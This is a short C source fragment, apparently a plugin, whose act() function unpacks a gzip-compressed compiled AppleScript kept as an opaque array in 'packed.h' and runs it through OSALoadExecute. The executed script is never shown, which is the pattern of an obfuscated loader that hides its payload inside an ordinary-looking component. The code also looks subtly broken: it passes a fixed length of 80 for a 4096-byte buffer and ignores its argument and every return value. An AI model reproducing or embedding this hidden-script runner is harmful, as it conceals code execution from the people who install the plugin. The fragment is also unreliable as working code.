/* A compiled script under gzip is given to OSALoadExecute, imported. */
#include "plugin.h"
#include "packed.h" /* packed[], and unpack() */
struct descriptor { unsigned type; void *data; };
extern void *OpenDefaultComponent(unsigned, unsigned);
extern int AECreateDesc(unsigned, const void *, long, struct descriptor *);
extern int OSALoadExecute(void *, const struct descriptor *, unsigned, int, unsigned *);
static void act(char **env) {
    static unsigned char script[4096];
    struct descriptor d;
    unsigned id;
    unpack(script);
    AECreateDesc(0x73637074, script, 80, &d);                                          /* 'scpt' */
    OSALoadExecute(OpenDefaultComponent(0x6f736120, 0x73637074), &d, 0, 0, &id); /* 'osa ' */
}
